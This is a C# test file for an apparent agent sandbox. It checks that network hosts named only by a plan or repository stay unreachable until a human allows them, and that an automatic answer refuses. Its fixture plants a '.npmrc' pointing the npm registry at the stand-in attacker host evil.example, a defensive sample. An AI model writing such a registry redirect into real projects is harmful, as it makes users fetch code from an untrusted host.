using Missions.Core;
using Missions.Core.Plans;
using Missions.Simulation;
using static Missions.Tests.Engine.Story;

namespace Missions.Tests.Engine.Setups;

/// <summary>A host that only the plan or the repository names is reached by nobody before a human has said so.</summary>
public class ConsentTests
{
    private static readonly Plan Plan = OneMilestone with { Boundaries = new(Network: ["preset:packages", "extra.example"]) };

    private readonly List<string> _answers = [];

    [Fact]
    public async Task It_is_asked_for_before_anything_is_set_up()
    {
        var trial = await OpenAsync(answersItself: false);

        var mission = await trial.RestsAsync(RestReason.NeedsYou);

        Assert.Equal("evil.example:443\nextra.example:443", mission.OpenChoices[0].About);
        Assert.Contains("evil.example:443 (from .npmrc)", mission.OpenChoices[0].Text, StringComparison.Ordinal);
        Assert.Empty(_answers);
        Assert.Null(mission.Readiness);
    }

    [Theory]
    [InlineData("allow", "HTTP/1.1 200", "npm.example:443 extra.example:443 evil.example:443")]
    [InlineData("refuse", "HTTP/1.1 403", "npm.example:443")]
    public async Task The_humans_word_decides(string word, string answer, string reached)
    {
        var trial = await OpenAsync(answersItself: false);
        await trial.RestsAsync(RestReason.NeedsYou);
        await trial.PutAsync(new MissionCommand.Decide(new(1), word));

        var mission = await trial.RestsAsync(RestReason.NeedsYou);

        Assert.NotEmpty(_answers);
        Assert.All(_answers, one => Assert.StartsWith(answer, one, StringComparison.Ordinal));
        Assert.Equal(
            reached.Split(' ').Order(StringComparer.Ordinal), mission.Readiness!.Network.Select(one => one.Host));
        Assert.Equal(word == "refuse", mission.Readiness.Notes.Any(note =>
            note.Contains("evil.example:443 (from .npmrc) was not allowed", StringComparison.Ordinal)
            && note.Contains("sandbox.allowedHosts", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Yes_says_no()
    {
        var trial = await OpenAsync(answersItself: true);

        var mission = await trial.RestsAsync(RestReason.Done);

        Assert.Equal("refuse", mission.Choices[0].Choice);
        Assert.All(_answers, one => Assert.Contains("sandbox.allowedHosts", one, StringComparison.Ordinal));
        Assert.Equal(["npm.example:443"], mission.Readiness!.Network.Select(one => one.Host));
    }

    [Fact]
    public async Task The_users_settings_may_allow_it_once_and_for_all()
    {
        var trial = await OpenAsync(answersItself: true);
        trial.Shop.AllowedHosts = ["evil.example", "extra.example:443"];

        var mission = await trial.RestsAsync(RestReason.Done);

        Assert.Empty(mission.Choices);
        Assert.All(_answers, one => Assert.StartsWith("HTTP/1.1 200", one, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Without_a_setup_nobody_is_asked()
    {
        var trial = await Trial.OpenAsync(Plan with { Setup = null }, answersItself: false, null);

        Assert.Empty((await trial.RestsAsync(RestReason.NeedsYou)).Choices);
    }

    private async Task<Trial> OpenAsync(bool answersItself)
    {
        var files = new Dictionary<string, string>(SimulatedProject.Files)
        {
            ["package.json"] = "{}",
            [".npmrc"] = "registry=https://evil.example/\n",
        };
        var trial = await Trial.OnAsync(files, Plan, answersItself);
        trial.Shop.Programs.With("npm config list --json", """{ "registry": "https://npm.example/" }""");
        trial.Shop.Outside.Name("evil.example", "93.184.216.34").Serve("93.184.216.34:443", _ => Task.CompletedTask);
        trial.Shop.Rooms.With("set-up", async (command, ct) =>
        {
            await using var proxy = command.Connect(3128);
            await proxy.WriteAsync("CONNECT evil.example:443 HTTP/1.1\r\n\r\nhello"u8.ToArray(), ct);
            using var reader = new StreamReader(proxy);
            _answers.Add(await reader.ReadToEndAsync(ct));
            return 0;
        });
        return trial;
    }
}
